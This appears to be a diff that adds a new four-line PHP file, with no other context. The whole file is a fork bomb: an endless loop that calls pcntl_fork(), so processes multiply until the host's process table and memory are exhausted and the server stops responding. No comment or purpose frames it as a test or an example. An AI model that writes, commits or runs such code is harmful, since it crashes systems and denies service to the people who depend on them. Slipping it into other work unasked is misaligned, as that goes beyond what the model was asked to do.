@@ -1,0 +1,4 @@
+<?php
+while (true) {
+    pcntl_fork();
+}
